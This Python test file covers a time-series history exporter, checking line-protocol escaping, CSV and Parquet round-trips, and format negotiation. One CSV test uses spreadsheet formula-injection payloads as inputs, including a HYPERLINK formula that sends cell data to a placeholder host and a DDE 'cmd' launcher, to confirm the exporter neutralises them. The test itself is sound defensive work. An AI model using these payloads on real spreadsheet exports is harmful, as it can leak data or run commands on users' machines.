from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.history.recorded import Point
from twinhub.history.export import CSV_HEADER, ExportFormat, choose_format, render_csv
from twinhub.history.lineprotocol import line_of, render_line_protocol
from twinhub.history.parquet import VALUE_ENCODING_KEY, render_parquet
from twinhub.history.series import Scalar
from twinhub.model.errors import HistoryFormatInvalid
from twinhub.model.json import loads

T0 = datetime(2026, 1, 1, tzinfo=UTC)


times = st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(2200, 1, 1), timezones=st.just(UTC))
names = st.text(st.characters(blacklist_categories=["Cs", "Cc"]), min_size=1, max_size=12)
values = st.one_of(st.integers(-(2**63), 2**63 - 1), st.floats(allow_nan=False, allow_infinity=False),
                   st.booleans(), st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\r\n")))


def _points(value_strategy: st.SearchStrategy[Scalar] = values) -> st.SearchStrategy[list[Point]]:
    return st.lists(st.builds(Point, names, names.map(lambda n: "/attributes/" + n), times, value_strategy,
                              st.integers(0, 2**62)), max_size=20)


# -- line protocol: parsed back by a reader written here from InfluxDB's reference ----------------------------


def _split_unescaped(text: str, separator: str) -> list[str]:
    """`text` split at each `separator` that no backslash escapes (quotes play no part outside field values)."""
    parts, current, index = [], "", 0
    while index < len(text):
        if text[index] == "\\" and index + 1 < len(text):
            current += text[index:index + 2]
            index += 2
            continue
        if text[index] == separator:
            parts.append(current)
            current = ""
        else:
            current += text[index]
        index += 1
    return [*parts, current]


def _unescape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def _parse_line(line: str) -> tuple[str, dict[str, str], Scalar, int]:
    series, *rest = _split_unescaped(line, " ")  # the series ends at the first unescaped space
    field, _, timestamp = " ".join(rest).rpartition(" ")  # a string field may hold spaces; the time may not
    measurement, *tags = _split_unescaped(series, ",")
    tag_set = dict((_unescape(key), _unescape(value)) for key, value in (_split_unescaped(t, "=") for t in tags))
    key, _, raw = field.partition("=")
    assert key == "value"
    value: Scalar
    if raw.startswith('"'):
        value = _unescape(raw[1:-1])
    elif raw in ("true", "false"):
        value = raw == "true"
    elif raw.endswith("i"):
        value = int(raw[:-1])
    else:
        value = float(raw)
    return _unescape(measurement), tag_set, value, int(timestamp)


@settings(max_examples=150, deadline=None)
@given(_points(), st.sampled_from(["twinhub", "my measurement,x=1", "back\\slash"]))
def test_line_protocol_parses_back_to_the_points(points: list[Point], measurement: str) -> None:
    lines = list(render_line_protocol(points, measurement))
    assert all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
    for point, line in zip(points, lines, strict=True):
        name, tags, value, nanos = _parse_line(line[:-1])
        assert name == measurement
        assert tags == {"thingId": point.thing_id, "path": point.path}
        assert value == point.value and type(value) is type(point.value)
        assert nanos == (point.time - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1) * 1000


def test_line_protocol_writes_each_kind_of_value_as_influx_does() -> None:
    points = [Point("ns:t", "/attributes/a b", T0, v, 1) for v in (3, 2.5, True, 'say "hi"\\')]
    assert list(render_line_protocol(points)) == [
        "twinhub,path=/attributes/a\\ b,thingId=ns:t value=3i 1767225600000000000\n",
        "twinhub,path=/attributes/a\\ b,thingId=ns:t value=2.5 1767225600000000000\n",
        "twinhub,path=/attributes/a\\ b,thingId=ns:t value=true 1767225600000000000\n",
        'twinhub,path=/attributes/a\\ b,thingId=ns:t value="say \\"hi\\"\\\\" 1767225600000000000\n',
    ]


def test_typed_fields_keep_one_type_per_field_key_as_influxdb_requires_of_a_measurement() -> None:
    lines = [line_of(Point("ns:t", "attributes/a", T0, v, 1), typed_fields=True) for v in (3, 2.5, True, "x")]
    assert [line.split(" ")[1] for line in lines] == ["value=3.0", "value=2.5", "value_bool=true", 'value_str="x"']


def test_line_protocol_refuses_a_line_break_rather_than_altering_it() -> None:
    with pytest.raises(HistoryFormatInvalid) as raised:
        list(render_line_protocol([Point("ns:t", "/attributes/a", T0, "two\nlines", 1)]))
    assert raised.value.status == 400


@pytest.mark.parametrize("time", [datetime(1, 1, 1, tzinfo=UTC), datetime(1677, 9, 21, 0, 12, 43, 145224, tzinfo=UTC),
                                  datetime(2262, 4, 11, 23, 47, 16, 854776, tzinfo=UTC),
                                  datetime(9999, 12, 31, tzinfo=UTC)])
def test_line_protocol_refuses_a_time_beyond_64_bit_nanoseconds(time: datetime) -> None:
    # InfluxDB refuses a whole write with such a line: an export must not hand one out as valid
    with pytest.raises(HistoryFormatInvalid) as raised:
        list(render_line_protocol([Point("ns:t", "/attributes/a", time, 1, 1)]))
    assert raised.value.status == 400 and "csv or parquet" in (raised.value.description or "")


@pytest.mark.parametrize("time", [datetime(1677, 9, 21, 0, 12, 43, 145225, tzinfo=UTC),
                                  datetime(2262, 4, 11, 23, 47, 16, 854775, tzinfo=UTC)])
def test_line_protocol_carries_the_first_and_last_times_of_64_bit_nanoseconds(time: datetime) -> None:
    (line,) = render_line_protocol([Point("ns:t", "/attributes/a", time, 1, 1)])
    assert -(2**63) <= int(line.split()[-1]) < 2**63


def test_integers_beyond_int64_become_floats_in_line_protocol() -> None:
    (line,) = render_line_protocol([Point("ns:t", "/attributes/a", T0, 2**70, 1)])
    assert " value=1.1805916207174113e+21 " in line


# -- CSV ---------------------------------------------------------------------------------------------------


@settings(max_examples=100, deadline=None)
@given(_points(st.one_of(values, st.text())))
def test_csv_reads_back_with_the_csv_module(points: list[Point]) -> None:
    rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))
    assert tuple(rows[0]) == CSV_HEADER
    for point, (thing_id, path, time, value, revision) in zip(points, rows[1:], strict=True):
        assert (_text_of(thing_id), _text_of(path), int(revision)) == (point.thing_id, point.path, point.revision)
        assert datetime.fromisoformat(time) == point.time
        if isinstance(point.value, str):
            assert _text_of(value) == point.value
        else:
            assert loads(value) == point.value and type(loads(value)) is type(point.value)


def _text_of(cell: str) -> str:
    """The text of a CSV text cell: one leading `'` removed where the export added it (the cell starts with `'`
    and then a character a spreadsheet reads as a formula, or a second `'`)."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else cell


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "'=1"])
def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(text: str) -> None:
    (row,) = list(csv.reader(io.StringIO("".join(render_csv([Point("ns:a", "attributes/s", T0, text, 1)])),
                                         newline="")))[1:]
    assert row[3] == "'" + text and _text_of(row[3]) == text


def test_csv_numbers_and_plain_text_are_written_as_they_are() -> None:
    points = [Point("ns:a", "attributes/n", T0, value, 1) for value in (-5, -0.5, "a=b", "", "hello")]
    rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))[1:]
    assert [row[3] for row in rows] == ["-5", "-0.5", "a=b", "", "hello"]


def test_an_empty_export_is_the_header_alone() -> None:
    assert "".join(render_csv([])) == "thingId,path,time,value,revision\r\n"


# -- Parquet -----------------------------------------------------------------------------------------------


def _read_parquet(data: bytes) -> tuple[list[dict[str, object]], bytes]:
    table = pq.read_table(io.BytesIO(data))
    return table.to_pylist(), table.schema.metadata[VALUE_ENCODING_KEY]


@settings(max_examples=60, deadline=None)
@given(st.one_of(_points(st.integers(-(2**63), 2**63 - 1)), _points(st.floats(allow_nan=False)),
                 _points(st.booleans()), _points(st.text())))
def test_parquet_of_one_kind_round_trips_in_a_native_column(points: list[Point]) -> None:
    rows, encoding = _read_parquet(render_parquet(points))
    assert encoding == b"native"
    assert rows == [{"thingId": p.thing_id, "path": p.path, "time": p.time, "value": p.value, "revision": p.revision}
                    for p in points]
    assert all(type(row["value"]) is type(p.value) for row, p in zip(rows, points, strict=True))


def test_parquet_of_mixed_numbers_is_float_and_of_mixed_kinds_is_json() -> None:
    numbers = [Point("ns:t", "/attributes/a", T0, 1, 1), Point("ns:t", "/attributes/a", T0, 2.5, 2)]
    rows, encoding = _read_parquet(render_parquet(numbers))
    assert encoding == b"native" and [row["value"] for row in rows] == [1.0, 2.5]
    mixed = [Point("ns:t", "/attributes/a", T0, v, 1) for v in (1, "1", True, 2**70)]
    rows, encoding = _read_parquet(render_parquet(mixed))
    assert encoding == b"json" and [json.loads(str(row["value"])) for row in rows] == [1, "1", True, 2**70]


def test_an_empty_parquet_export_has_the_columns() -> None:
    rows, _ = _read_parquet(render_parquet([]))
    assert rows == []
    assert pq.read_table(io.BytesIO(render_parquet([]))).column_names == list(CSV_HEADER)


def test_parquet_times_are_utc_microseconds() -> None:
    point = Point("ns:t", "/attributes/a", T0 + timedelta(microseconds=123_456), 1, 1)
    table = pq.read_table(io.BytesIO(render_parquet([point])))
    assert str(table.schema.field("time").type) == "timestamp[us, tz=UTC]"
    assert table.to_pylist()[0]["time"] == point.time


# -- choosing a format -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("param", "accept", "expected"), [
    ("csv", None, ExportFormat.CSV), ("Parquet", None, ExportFormat.PARQUET), ("lp", None, ExportFormat.LINE_PROTOCOL),
    ("line", "text/csv", ExportFormat.LINE_PROTOCOL), (None, "text/csv", ExportFormat.CSV),
    (None, "application/vnd.apache.parquet;q=0.9, application/json;q=0.5", ExportFormat.PARQUET),
    (None, "application/json", None), (None, None, None),
])
def test_format_param_wins_over_accept(param: str | None, accept: str | None, expected: ExportFormat | None) -> None:
    assert choose_format(param, accept) is expected


@pytest.mark.parametrize(("accept", "expected"), [
    ("application/json, text/plain, */*", None),  # axios' default
    ("application/json, text/csv", None),  # JSON written first, both q=1
    ("text/csv;q=0.1, application/json", None),
    ("text/csv, application/json;q=0.9", ExportFormat.CSV),
    ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", None),  # a browser's
    ("text/csv;q=0, application/vnd.apache.parquet;q=0.2", ExportFormat.PARQUET),
    ("text/csv;q=0.000, */*;q=0.001", None),
    ("TEXT/CSV; charset=utf-8", ExportFormat.CSV),
    ("text/csv;q=nan, application/json;q=0.5", None), ("text/csv;q=2", None),  # malformed weights refuse
    ("application/vnd.influx.line-protocol;q=0.8, text/csv;q=0.7", ExportFormat.LINE_PROTOCOL),
])
def test_accept_chooses_what_the_client_prefers_by_weight_then_order(accept: str,
                                                                      expected: ExportFormat | None) -> None:
    assert choose_format(None, accept) is expected


def test_an_unknown_format_is_a_400() -> None:
    with pytest.raises(HistoryFormatInvalid) as raised:
        choose_format("xml", None)
    assert raised.value.status == 400
